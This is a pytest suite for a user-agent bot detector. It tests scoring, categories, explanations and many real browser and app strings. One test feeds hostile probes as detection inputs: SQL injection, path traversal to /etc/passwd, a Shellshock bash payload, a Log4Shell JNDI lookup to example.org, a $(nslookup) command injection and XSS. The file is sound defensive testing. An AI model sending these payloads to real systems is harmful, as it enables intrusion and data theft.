"""The default detector: probes in their own category, evidence on both sides, a model verdict
that says why and has a category, explain() agreeing with classify(), and the shipped model being
exactly what the build script makes of the shipped corpus."""

from __future__ import annotations

import csv
import gzip
import importlib.util
import json
import re
import sys
from importlib import resources
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from botguard import Config, Verdict, classify, explain
from botguard._detector import MODEL_FILE, Detector, load_model
from botguard._features import (
    _Unknown, distinct, is_shapeless, is_versionless, lower_named, shape_features, text_features, word_features,
    words_of,
)
from botguard._cache import PHONES_LIMIT, cache_info, cached_explanation, decision_timing, phone_key, verdict_cache
from botguard._judge import NO_MATCH
from botguard._patterns import decode_user_agent, normalize_user_agent
from botguard._rulesets import CATEGORIES, builtin_ruleset, default_detector
from botguard.rules import botguard as own_rules

ROOT = Path(__file__).resolve().parent.parent
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)


def _passed_at_once(detect: Detector, raw: bytes) -> bool:
    """Whether the verdict cache passes `raw` as a major browser's string, before decoding it."""
    shape = detect.formats_raw(raw)
    return shape is not None and shape.lastindex is None


def _shipped() -> Detector:
    """The default rule set's detector, as `builtin_ruleset("default")` serves it."""
    detect = builtin_ruleset("default")._search
    assert isinstance(detect, Detector)
    return detect


@pytest.mark.parametrize(
    "user_agent",
    [
        "' OR 1=1 --",
        "../../../../etc/passwd",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "$(nslookup abc.example.org)",
        CHROME + "<script>alert(1)</script>",
        "${jndi:ldap://example.org/a}",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "feroxbuster/2.10.4",
        "-1 OR 2+150-150-1=0+0+0+1 --",
        "x') OR NOT 42=42 AND ('a'='a",
        "..%252f..%252fboot.ini",
        # One of each class the gate admits through a word rather than a character.
        CHROME + ") ORDER BY 1-- x",
        "x AND CASE WHEN 1 THEN 1 END",
        "x OR sysdate()",
        "x OR extractvalue(1,concat(0x7e,version()))",
        "javascript:alert(1)",
        "file://server/share",
        "x; id && whoami",
        "x() && y",
        "require(child_process)",
        "..%c0%af..%c0%afwinnt",
        CHROME + "%22%3E%3Cscript%3Ealert(1)",
    ],
)
def test_attack_probes_have_a_category_of_their_own(user_agent: str) -> None:
    found = explain(user_agent)
    assert found.verdict is Verdict.BOT and found.category == "probe", found
    admitted = explain(user_agent, Config(allow_categories=["probe"]))
    assert (admitted.verdict, admitted.rule_list) == (Verdict.NONE, "allow_categories")


def test_probe_is_a_category_users_can_name() -> None:
    assert "probe" in CATEGORIES
    assert Config.from_mapping({"allow_categories": ["probe"]}).allow_categories == ("probe",)


# Podcast apps that write their contact URL in their listeners' own requests, as crawlers do.
PODCAST_APPS_WITH_A_CONTACT_URL = (
    "Overcast/3.0 (+http://overcast.fm/; iOS podcast app)",
    "PodcastAddict/v5 (+https://podcastaddict.com/; Android podcast app)",
    "gPodder/3.11.1 (+https://gpodder.github.io/) Linux",
)


# Strings of today's software that no labelled collection holds, written as the software sends
# them: in-app browsers, browsers of TVs, consoles, cars, headsets and e-readers, desktop apps
# built on a browser engine, and podcast and radio apps (more in `benchmarks/today/`). They were
# written after the detector; one of them, iCatcher!, led to a change (`PODCAST_APPS`).
TODAYS_PEOPLE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148 [FBAN/FBIOS;FBAV/500.0.0.40.100;FBBV/700000000;FBDV/iPhone16,2;FBMD/iPhone;FBSN/iOS;"
    "FBSV/18.6;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/80]",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/142.0.7444.102 Mobile Safari/537.36 Instagram 400.0.0.45.80 Android (34/14; 450dpi; "
    "1080x2340; samsung; SM-A546B; a54x; s5e8835; en_US; 800000000)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "musical_ly_37.5.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/US RevealType/Dialog "
    "isDarkMode/0 WKWebView/1 BytedanceWebview/d8a21c6 TikTok 37.5.0",
    "Mozilla/5.0 (Linux; Android 14; V2309A Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/130.0.6723.103 Mobile Safari/537.36 XWEB/1300289 MMWEBSDK/20240501 MMWEBID/1234 "
    "MicroMessenger/8.0.50.2701(0x28003234) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
    "Mozilla/5.0 (Linux; Android 14; SM-S921N Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/142.0.7444.102 Mobile Safari/537.36;KAKAOTALK 2410560",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "NAVER(inapp; search; 2000; 12.14.5; 16PRO)",
    "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36 "
    "Telegram-Android/12.1.1 (Samsung SM-A546B; Android 14; SDK 34; HIGH)",
    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.270 "
    "Safari/537.36 WebAppManager",
    "Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 "
    "CrKey/1.56.500000",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 "
    "Tesla/2025.38.6",
    "Mozilla/5.0 (Linux; Android 12; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/38.2.0.8.62 "
    "SamsungBrowser/4.0 Chrome/136.0.7103.177 VR Safari/537.36",
    "Mozilla/5.0 (Kindle; U; Android 4.0) AppleWebKit/537.36 (KHTML, like Gecko) Silk/140.3.1 "
    "like Chrome/140.0.7339.207 Safari/537.36",
    "Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2.2",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) obsidian/1.9.14 "
    "Chrome/138.0.7204.251 Electron/37.7.0 Safari/537.36",
    "Mozilla/5.0 (Windows; U; Windows NT 10.0; en-US; Valve Steam Client/default/1761281000; ) "
    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.183 Safari/537.36",
    "Mozilla/5.0 (compatible; ms-office; MSOffice 16)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Word 16.0.17928; Pro)",
    "com.apple.WebKit.Networking/20621.1.15 CFNetwork/3826.500.131 Darwin/24.6.0",
    "itunesstored/1.0 iOS/18.6 model/iPhone16,2 hwp/t8130 build/22G86 (6; dt:290) AMS/1",
    "Spotify/122100400 iOS/18.6 (iPhone16,2)",
    "CastBox/11.8.1-251023001 (Linux;Android 14) ExoPlayerLib/2.19.1",
    "PodcastAddict/v2 - Dalvik/2.1.0 (Linux; U; Android 14; SM-A546B Build/UP1A.231005.007)",
    "iCatcher!/2.9.7 (iPhone; iOS 18.6; Scale/3.00)",  # a podcast app, whose name holds "catch" (isbot)
    "Downcast/2.9.74 (iPhone; iOS 18.6; Scale/3.00)",
    "AlexaMediaPlayer/2.1.5327.0 (Linux;Android 7.1.2) ExoPlayerLib/2.9.6",
    "Windows-Media-Player/12.0.19041.5737",
    "RadioDroid2/0.86",
)


@pytest.mark.parametrize(
    "user_agent",
    [
        CHROME,
        *PODCAST_APPS_WITH_A_CONTACT_URL,
        # People's media software: players, OS media stacks, radio and podcast apps, speakers.
        "VLC/3.0.18 LibVLC/3.0.18",
        "AppleCoreMedia/1.0.0.20G165 (iPhone; U; CPU OS 16_6 like Mac OS X; en_us)",
        "iTunes-AppleTV/4.1",
        "mediaserverd (unknown version) CFNetwork/1237 Darwin/20.4.0",  # iOS's media daemon ("server": isbot)
        "stagefright/1.2 (Linux;Android 9)",
        "GStreamer souphttpsrc 1.22.0 libsoup/3.4.4",  # Linux desktops' players (Totem, Rhythmbox)
        "libmpv",
        "Podcasts/1700.1 CFNetwork/1408.0.4 Darwin/22.5.0",
        "TuneIn Radio/30.1 (Android 13; SM-G991B; Java)",
        "Sonos/79.1-52220 (ZPS23)",
        "GoogleChirp/1.0",  # a Google Home or Nest speaker, which one public list calls a monitor ("Chirp")
        # Players and podcast apps whose names the model has never seen: a bare token is judged by
        # its word, and an unknown word is no reason to refuse.
        "Juice/2.2", "Miro/6.0", "Instacast/4.2", "foobar2000/1.6.16", "Winamp/5.8", "NSPlayer/12.00.19041.1",
        "BeyondPod", "Pocket Casts",
        # A first release is weighed with its shape, but a media stem in the name speaks for a person.
        "MyRadio/1.0", "AudioPlayer/0.3", "FMRadio/1.0",
        # A name in lower case is weighed with its shape, but a player's or a text-mode browser's
        # name speaks for a person.
        "mpg123/1.31.2", "mpd/0.23.14", "w3m/0.5.3+git20230121", "lynx/2.9.0",
        # Ladybird, whose engine (LibWeb) Crawler-Detect lists as a bot's name.
        "Mozilla/5.0 (Linux; x86_64) LibWeb+LibJS/1.0 Ladybird/1.0",
        # Feature phones and TVs that isbot's shapes take for scripts.
        "SAMSUNG-GT-S8530/1.0;",
        "Mozilla/5.0(SmartHub;SMART-TV;U;Linux/SmartTV;Maple2012)AppleWebKit/534.7(KHTML,likeGecko)SmartTV",
        # A shell command's name as a locale ("id": Indonesian), behind a gate character ("+").
        "Mozilla/5.0 (BlackBerry; U; BlackBerry 9220; id) AppleWebKit/534.11+ (KHTML, like Gecko) "
        "Version/7.1.0.337 Mobile Safari/534.11+",
        *TODAYS_PEOPLE,
    ],
)
def test_people_pass(user_agent: str) -> None:
    assert explain(user_agent).verdict is Verdict.NONE, explain(user_agent)


def test_an_unknown_name_and_version_alone_is_not_enough_to_refuse() -> None:
    # A person's player or app often sends no more than this: its shape weighs nothing, and a word
    # never seen weighs what its affixes weigh.
    detect = _shipped()
    assert explain("Zqxwvy/2.4.1").verdict is Verdict.NONE
    weighed = detect.weigh("Zqxwvy/2.4.1")
    assert not weighed.certain and not weighed.with_rule
    assert weighed.score == pytest.approx(detect._unknown[b"zqxwvy"])


@pytest.mark.parametrize("name", ["Zqxwvy", "Zqxwvy-Frontend", "zqxwvy.example", "Zqxwvy/production"])
def test_a_bare_name_without_a_version_is_weighed_whole(name: str) -> None:
    # People's players and apps name their version; a name alone, without one, is a script's
    # default or a service's: its shape weighs, as on any string that is not a bare token.
    detect, model = _shipped(), load_model()
    low = name.lower()
    words = words_of(low)
    known = {word.encode("ascii") for word in model["words"]}
    shape = sum(model["shape"].get(feature, 0.0) for feature in shape_features(name, words, known))
    assert shape > 0  # the shape of a lone name speaks for a bot
    words_only = sum(detect._word_score(word) for word in distinct(words))
    assert detect.weigh(name).score == pytest.approx(words_only + shape)
    brand = name[0].upper() + name[1:] + "/2.4.1"  # a name in lower case weighs its shape (below)
    assert detect.weigh(brand).score == pytest.approx(words_only)


@pytest.mark.parametrize(
    ("text", "versionless"),
    [
        ("Zqxwvy", True), ("Zqxwvy Zqxwvy", True), ("Zqxwvy/production", True), ("Zqxwvy-Frontend", True),
        ("Zqxwvy/2.4.1", False), ("Zqxwvy (Zqxwvy)", False), ("Zqxwvy; Zqxwvy", False), ("Zqxwvy 2", False),
    ],
)
def test_a_string_with_no_version_and_no_comment_needs_less_without_a_rule(text: str, versionless: bool) -> None:
    # People's software names its version: a name or a few words alone are held to the words'
    # threshold less the model's name margin. Here a word alone weighs 3.0, between the two.
    model = {
        "words": {"zqxwvy": 3.0}, "affixes": {}, "rules": {}, "threshold_rule": 1.0, "threshold_words": 3.5,
        "name_margin": 0.75,
    }
    detect = default_detector(model)
    assert is_versionless(text) is versionless
    weighed = detect.weigh(text)
    assert (weighed.score, weighed.margin) == (3.0, -0.75 if versionless else 0.0)
    assert weighed.blocks(1.0, 3.5) is versionless
    found = detect(text)
    assert (found is not None) is versionless
    if found is not None:
        assert found.pattern == "score 3.00 >= 2.75: zqxwvy +3.00"
    evidence = detect.evidence(text)
    assert (evidence.threshold, evidence.versionless) == (2.75 if versionless else 3.5, versionless)
    # Without the margin (a model built before it), the words' threshold holds for every string.
    assert default_detector({**model, "name_margin": 0.0})(text) is None
    assert not default_detector({**model, "name_margin": 0.0}).evidence(text).versionless


@pytest.mark.parametrize("name", ["zqxwvy", "zqxwvy-daemon", "zqxwvy.example", "zqxwvy2"])
def test_a_bare_name_in_lower_case_weighs_its_shape_whatever_its_version(name: str) -> None:
    # Tools, daemons and libraries write their name in lower case; people's players, a brand.
    detect, model = _shipped(), load_model()
    known = {word.encode("ascii") for word in model["words"]}
    assert model["shape"]["x:lower"] > 0
    for version in ("2.4.1", "v1.34", "24.11.1", "5.19.0-rc1"):
        text = f"{name}/{version}"
        words_only = sum(detect._word_score(word) for word in distinct(words_of(text)))
        assert lower_named(text) and not is_shapeless(text)
        features = shape_features(text, words_of(text), known)
        assert "x:lower" in features
        shape = sum(model["shape"].get(found, 0.0) for found in features)
        assert detect.weigh(text).score == pytest.approx(words_only + shape)
        brand = name.capitalize() + "/" + version  # the same words
        assert not lower_named(brand) and is_shapeless(brand)
        assert detect.weigh(brand).score == pytest.approx(words_only)
    assert not lower_named(f"{name}/2.4.1 (Linux)") and not lower_named(f"{name} 2.4.1")  # not bare tokens
    assert not lower_named("zqxwvy") and lower_named("zqxwvy2")  # without a digit, weighed whole already


@pytest.mark.parametrize("name", ["Zqxwvy", "Dendrite", "Construct"])
def test_a_bare_first_release_weighs_its_shape_and_its_version(name: str) -> None:
    # Scripts and servers name themselves `Name/0.x`, `Name/1.0` or `Name/2`; a person's player names the
    # release it ships. A first release's shape weighs, its version with it; a later one's does not.
    detect, model = _shipped(), load_model()
    known = {word.encode("ascii") for word in model["words"]}
    words_only = sum(detect._word_score(word) for word in distinct(words_of(name.lower())))
    for version, feature in (("0.8.7", "x:v0"), ("v0.10", "x:v0"), ("1.0", "x:v10"), ("6", "x:vint"), ("v2", "x:vint")):
        text = f"{name}/{version}"
        features = shape_features(text, words_of(text.lower()), known)
        assert feature in features and model["shape"][feature] > 0 and not is_shapeless(text)
        shape = sum(model["shape"].get(found, 0.0) for found in features)
        assert detect.weigh(f"{name}/{version}").score == pytest.approx(words_only + shape)
        assert explain(f"{name}/{version}").verdict is Verdict.BOT
    for version in ("1.0.1", "1.01", "10.0", "2.4.1", "6.x"):
        assert is_shapeless(f"{name}/{version}")
        assert detect.weigh(f"{name}/{version}").score == pytest.approx(words_only)


def test_a_media_stem_speaks_for_a_person_only_in_a_bare_tokens_name() -> None:
    detect = _shipped()
    assert detect.weigh("Zqxwvyradio/1.0").spoken_for and explain("Zqxwvyradio/1.0").verdict is Verdict.NONE
    assert not detect.weigh("Zqxwvy/1.0").spoken_for  # the same shape, no stem
    assert not detect.weigh("Zqxwvy 1.0 (zqxwvyradio)").spoken_for  # not a bare token
    assert not detect.weigh("https://zqxwvy.example/zqxwvyradio/1.0").spoken_for  # the stem is not in the name
    assert explain("RadioBot/1.0").verdict is Verdict.BOT  # a robot's word still decides


@pytest.mark.parametrize(
    "user_agent",
    [
        "w3m/0.5.3",
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",  # libwww is a library's name
        "Links (2.29; Linux 6.1.0-13-amd64 x86_64; GNU C 12.2; text)",
        "ELinks/0.13.2 (textmode; Linux 6.1.0 x86_64; 120x40-2)",
        "NetSurf/3.0 (RISC OS)",
        "Dillo/3.0.5",
    ],
)
def test_a_text_mode_browsers_name_leading_the_string_speaks_for_a_person(user_agent: str) -> None:
    assert _shipped().weigh(user_agent).spoken_for and explain(user_agent).verdict is Verdict.NONE


def test_a_text_mode_browsers_name_speaks_only_whole_and_first() -> None:
    detect = _shipped()
    assert not detect.weigh("w3mzqxwvy/0.5.3").spoken_for  # a longer name is another's
    assert not detect.weigh("zqxwvy/0.5.3 w3m").spoken_for  # not the name the string opens with
    assert not detect.weigh("Mozilla/5.0 (Lynx; zqxwvy)").spoken_for
    # A text browser's name does not speak against a robot's own word.
    assert not detect.weigh("Lynx/2.8.9 (LinkCheckBot; +https://example.org/bot)").spoken_for


def test_a_self_declared_crawler_with_media_words_is_still_a_bot() -> None:
    found = explain("PodcastRadioCrawler/1.0 (+https://example.org/crawler; radio podcast)")
    assert found.verdict is Verdict.BOT, found


@pytest.mark.parametrize(
    "ua",
    [
        # Counts its subscribers: botguard's named rule, whatever media words the string holds.
        "Breaker/v315 (subscribers=9999; feed-id=123456; url=https://www.breaker.audio/url-slug-to-podcast)",
        "Castro 2022.1 (Podcast Sync; 12 subscribers)",
        # A podcast service's fetcher that names its work, with a contact URL.
        "PocketCasts/1.0 (Pocket Casts Feed Parser; +http://pocketcasts.com/)",
        # A feed fetcher that only isbot's "http" (its contact URL) names, in "other" before.
        "Zqxwvy Feed Fetcher (+https://example.org/podcast)",
        # Feed readers whose names hold no feed word, named by a catch-all rule.
        "Reeder/5050 CFNetwork/3826.500.131 Darwin/24.6.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) NetNewsWire/6.1.4",
        "Liferea/1.15.7 (Linux; en_US.UTF-8; https://lzone.de/liferea/)",
        "newsboat/2.36.0 (Linux x86_64)",
    ],
)
def test_feed_and_podcast_fetchers_are_in_feed_and_a_feed_site_admits_them(ua: str) -> None:
    found = explain(ua)
    assert found.verdict is Verdict.BOT and found.category == "feed", found
    assert explain(ua, Config(allow_categories=["feed"])).verdict is Verdict.NONE


def test_a_podcast_app_declares_a_robot_by_its_words_not_by_its_contact_url() -> None:
    # The apps pass (`test_people_pass`); a server's work or a robot's word beside the same name does not.
    for app in PODCAST_APPS_WITH_A_CONTACT_URL:
        for declared in ("Feed Parser", "crawler"):
            assert explain(app.replace(")", f"; {declared})", 1)).verdict is Verdict.BOT, (app, declared)


def test_what_puts_a_fetcher_in_feed() -> None:
    counted = explain("Castro 2022.1 (Podcast Sync; 12 subscribers)")
    assert counted.rule is not None and counted.rule.source == "botguard"
    # Without the count, the same words are a person's podcast app.
    assert explain("Castro 2022.1 (Podcast app; iPhone)").verdict is Verdict.NONE
    # The catch-all rule over a string with no feed or podcast word keeps its category.
    assert explain("Zqxwvy/1.0 (+http://example.org)").category == "other"


def test_a_name_written_inside_khtml_like_gecko_is_a_tool() -> None:
    # A browser closes the parenthesis after "like Gecko"; a tool copying its string adds itself there.
    found = explain(
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; Zqxwvy/1.0) "
        "Chrome/139.0.7258.127 Safari/537.36"
    )
    assert found.verdict is Verdict.BOT and found.rule is not None, found
    assert found.rule.pattern == r"\(KHTML, like Gecko;" and found.rule.source == "botguard"
    # Old Safari went on with ", Safari/…" inside it: a person's browser.
    old_safari = (
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X; en) AppleWebKit/419 (KHTML, like Gecko, Safari/419.3) Cheshire/1.0.ALPHA"
    )
    assert explain(old_safari).verdict is Verdict.NONE


def test_a_scored_verdict_says_why_and_has_a_category() -> None:
    ua = "gitlab-runner 17.8.3 (17-8-stable; go1.23.2; linux/amd64)"
    found = explain(ua)
    assert found.verdict is Verdict.BOT and found.rule_list == "builtin"
    assert found.rule is not None and found.rule.source == "model"
    assert found.rule.pattern.startswith("score ") and " go +" in found.rule.pattern  # the weightiest words
    assert found.category in CATEGORIES
    admitted = explain(ua, Config(allow_categories=[found.category]))
    assert admitted.verdict is Verdict.NONE and admitted.rule_list == "allow_categories"
    assert "(model, " in str(found)


def test_kong_is_untouched_by_the_detector() -> None:
    assert builtin_ruleset("kong").search("' OR 1=1 --") is None
    assert classify("VLC/3.0.18 LibVLC/3.0.18", Config(builtin="kong")) is Verdict.NONE


def test_the_model_is_data_with_its_thresholds() -> None:
    model = load_model()
    assert model["threshold_words"] > 0
    assert all(isinstance(w, float) for table in ("words", "affixes", "rules") for w in model[table].values())
    with pytest.raises(ValueError, match="lacks 'words'"):
        load_model({"threshold_rule": 1.0, "threshold_words": 1.0})


def test_a_detector_can_be_built_from_another_model() -> None:
    model = {"words": {"zqxwvy": 5.0}, "affixes": {}, "rules": {}, "threshold_rule": 1.0, "threshold_words": 1.0}
    detect = default_detector(model)
    found = detect("Zqxwvy/2.4.1")
    assert found is not None and found.source == "model" and found.pattern.endswith(": zqxwvy +5.00")


def test_a_crawler_detect_pattern_must_clear_the_rule_threshold_by_its_lists_margin() -> None:
    # "AngleSharp" (a .NET HTML parser) is named by Crawler-Detect's list only; with no weights
    # but the list's, the sum is that weight, and the list's margin decides.
    text = "AngleSharp/1.1"
    rule = default_detector().weigh(text)
    assert rule.with_rule and rule.margin == load_model()["rule_margins"]["crawlerdetect"] > 0
    base = {"words": {}, "affixes": {}, "rules": {"g:crawlerdetect": 1.5}, "threshold_rule": 1.0, "threshold_words": 9.0}
    found = default_detector(base)(text)
    assert found is not None and found.source == "crawlerdetect"
    assert default_detector({**base, "rule_margins": {"crawlerdetect": 1.0}})(text) is None
    weighed = default_detector({**base, "rule_margins": {"crawlerdetect": 1.0}}).weigh(text)
    assert (weighed.score, weighed.margin) == (1.5, 1.0) and not weighed.blocks(1.0, 9.0) and weighed.blocks(0.5, 9.0)


def test_an_unknown_token_appended_to_a_browser_string_weighs_for_a_tool() -> None:
    # The same unseen word weighs more at the end of a browser's string than inside it.
    detect = _shipped()
    appended = detect.weigh(CHROME + " Zqxwvy/2.4.1").score
    browser = detect.weigh(CHROME).score
    inside = detect.weigh(CHROME.replace("Win64", "Zqxwvy")).score
    assert appended - browser > inside - browser > 0


def test_the_shape_is_explained_in_words() -> None:
    detect = _shipped()
    found = detect("Zqxwvy 2.0 (Jvmrz; Xkcdq) Wbtrn")  # words never seen, in no browser's shape
    assert found is not None and found.source == "model"
    assert "(unknown first word)" in found.pattern and "(not browser-shaped)" in found.pattern


_PIECES = [
    "Mozilla/5.0 ", "(Windows NT 10.0; Win64; x64) ", "(Linux; Android 13; Pixel 7 Build/TQ3A.230901.001) ",
    "AppleWebKit/537.36 ", "(KHTML, like Gecko) ", "Chrome/120.0 ", "Safari/537.36", "bot", "Bot/1.0", "crawler",
    "spider", "curl/8.4.0", "python-requests/2.31", "VLC/3.0", "radio", "podcast", "+http://example.org", "'",
    " OR 1=1", "../", "$(", "sdk", "go1.21", "http", "client", "feed", "monitor", "x", "/", ";", " ", "1.0",
    "Googlebot/2.1", "WhatsApp/2.23", "Dalvik/2.1.0", "(KHTML, like Gecko; compatible; Tool/1.0) ", "zqxwvy/2.4.1",
    "w3m/0.5.3", "Zqxwvy",
]


@given(st.one_of(st.lists(st.sampled_from(_PIECES), max_size=10).map("".join), st.text(max_size=80)))
@settings(max_examples=300, deadline=None)
def test_explain_and_classify_agree(user_agent: str) -> None:
    config = Config()
    found = explain(user_agent, config)
    assert classify(user_agent, config) is found.verdict
    # A blocking verdict always names its rule and category; a pass names none from the list.
    if found.verdict is Verdict.BOT:
        assert found.rule is not None and found.category in CATEGORIES
    allowed = Config(allow_categories=list(CATEGORIES))
    assert classify(user_agent, allowed) is not Verdict.BOT
    # A rule named as outweighed matched and did not decide: only beside a pass with no rule.
    if found.outweighed is not None:
        assert found.verdict is Verdict.NONE and found.rule is None
        assert _shipped()(decode_user_agent(user_agent)) is None


def test_a_rule_that_matched_and_did_not_decide_is_named_with_why() -> None:
    # People's media software speaks for a string a list names.
    overruled = explain(PODCAST_APPS_WITH_A_CONTACT_URL[0])
    assert overruled.verdict is Verdict.NONE and overruled.rule is None and overruled.outweighed is not None
    rule, why = overruled.outweighed
    assert rule.source == "crawler-user-agents" and why == "people's media software speaks for it"
    assert str(overruled).startswith("NONE: no rule decided; builtin[") and "'Overcast\\\\/'" in str(overruled)
    assert overruled.as_dict()["outweighed"]["why"] == why and overruled.as_dict()["pattern"] is None
    # A list's rule inside a person's browser, outweighed by the browser's evidence.
    sogou = explain(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 10_1 like Mac OS X) AppleWebKit/602.2.14 (KHTML, like Gecko) "
        "Mobile/14B72 SogouMobileBrowser/5.8.1"
    )
    assert sogou.verdict is Verdict.NONE and sogou.outweighed is not None
    assert sogou.outweighed[1].startswith("outweighed by the evidence against it (score ")
    # Nothing matched: as before.
    plain = explain(CHROME)
    assert plain.outweighed is None and str(plain) == "NONE: no rule matched" and "outweighed" not in plain.as_dict()
    # Kong's list decides by its first match: nothing is outweighed there.
    assert explain(PODCAST_APPS_WITH_A_CONTACT_URL[0], Config(builtin="kong")).outweighed is None


@given(st.one_of(st.lists(st.sampled_from(_PIECES), max_size=10).map("".join), st.text(max_size=80)))
@settings(max_examples=300, deadline=None)
def test_the_fast_shape_sum_is_the_sum_of_the_named_features(user_agent: str) -> None:
    # The detector sums shape weights without naming the features; the trainer names them.
    detect = _shipped()
    model = load_model()
    known = {word.encode("ascii") for word in model["words"]}
    text = normalize_user_agent(user_agent)
    low = text.lower()
    words = words_of(low)
    named = sum(model["shape"].get(feature, 0.0) for feature in shape_features(text, words, known))
    unknown = [i for i, word in enumerate(words) if len(word) >= 2 and word not in known]
    expected = 0.0 if is_shapeless(text) else named  # a bare Name/version: its shape weighs nothing
    assert detect._form.score(text, low, words, unknown) == pytest.approx(expected)


@given(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join))
@settings(max_examples=300, deadline=None)
def test_the_detector_weighs_what_the_trainer_names(user_agent: str) -> None:
    # The trainer names features (`text_features`); the detector sums weights without naming them.
    # The two agree, and no piece of evidence counts twice: a word said twice, or two unknown words
    # in one place, weigh what one does (two words that share an affix each weigh theirs).
    detect = _shipped()
    model = load_model()
    text = normalize_user_agent(user_agent)
    weighed = detect.weigh(text)
    if weighed.certain:
        return
    low = text.lower()
    known = {word.encode("ascii") for word in model["words"]}
    rule = detect._search_gated(text)[0]
    features = text_features(text, rule, known)
    expected = 0.0 if rule is None else detect._rule_score(rule)
    for word in distinct(words_of(low)):
        name = word.decode("ascii")
        if word in known:
            expected += model["words"][name]
        else:
            expected += sum(model["affixes"].get(feature, 0.0) for feature in word_features(name)[1:])
    if not is_shapeless(text):
        expected += sum(model["shape"].get(f, 0.0) for f in features if f[:2] in ("x:", "o:"))
    assert weighed.score == pytest.approx(expected)


@given(
    st.one_of(
        st.lists(st.sampled_from(_PIECES), max_size=12).map("".join), st.sampled_from(["Go-CF-client/1.1", "Zqxwvy"])
    )
)
@settings(max_examples=300, deadline=None)
def test_what_an_explanation_lists_is_what_was_weighed(user_agent: str) -> None:
    # A model verdict names the evidence that weighed most; every piece it can name counts in the
    # score, and nothing else does (a bare Name/version's shape, which weighs nothing, is not named).
    detect = _shipped()
    text = normalize_user_agent(user_agent)
    words = words_of(text.lower())
    assert sum(detect.contributions(text, words).values()) == pytest.approx(detect._score(text, text.lower(), words))


def test_a_token_said_again_and_again_weighs_what_it_weighs_once() -> None:
    detect = _shipped()
    firefox = "Mozilla/5.0 (Windows NT 10.0; WOW64; rv:38.0) Gecko/20100101 Firefox/38.0"
    once = detect.weigh(f"{firefox} Zqxwvy/4.0500").score
    again = detect.weigh(f"{firefox}" + " Zqxwvy/4.0500" * 6).score
    # Only the shape's length and token count may differ.
    assert abs(again - once) < 1.0
    assert detect(f"{firefox}" + " Zqxwvy/4.0500" * 6) is None


_PROBE_PIECES = [
    "'", '"', " or ", "1=1", "--", "../", "..%2f", "%00", "$(", "`", "${jndi:", "<script", "<!--#", "{{", "sleep(",
    "union select", "ſleep(", "/etc/passwd", "cmd.exe", "|", ";", " ", "Mozilla/5.0", "curl", "x", "=", "*", "+",
]


@given(st.one_of(st.lists(st.sampled_from(_PROBE_PIECES), max_size=8).map("".join), st.text(max_size=60)))
@settings(max_examples=400, deadline=None)
def test_probes_split_into_alternatives_find_what_the_whole_patterns_find(text: str) -> None:
    detect = _shipped()
    low = text.lower()
    probes = [probe for _, probe in detect._probes]
    whole = next((probe for probe in probes if re.search(probe.pattern, low, re.IGNORECASE)), None)
    assert detect._probe(low) == whole


@given(st.one_of(st.lists(st.sampled_from(_PIECES + _PROBE_PIECES), max_size=10).map("".join), st.text(max_size=80)))
@settings(max_examples=300, deadline=None)
def test_the_evidence_weighed_for_benchmarks_gives_the_detectors_verdict(user_agent: str) -> None:
    detect = _shipped()
    model = load_model()
    text = normalize_user_agent(user_agent)
    weighed = detect.weigh(text)
    assert weighed.blocks(model["threshold_rule"], model["threshold_words"]) is (detect(text) is not None)


def test_the_shipped_model_is_what_the_build_script_makes() -> None:
    if importlib.util.find_spec("numpy") is None:
        pytest.skip("numpy is not installed (pip install -e '.[dev]')")
    sys.path.insert(0, str(ROOT / "scripts"))
    try:
        import build_detector
    finally:
        sys.path.remove(str(ROOT / "scripts"))
    shipped = resources.files("botguard.rules").joinpath(MODEL_FILE).read_text("utf-8")
    built = build_detector.dumps(build_detector.build(build_detector.DEFAULT_DATA))
    assert json.loads(built)["threshold_rule"] == json.loads(shipped)["threshold_rule"]
    found = build_detector.differences(built, shipped)  # another numpy may round a weight the other way
    assert not found, "run scripts/build_detector.py and commit the model:\n" + "\n".join(found[:20])


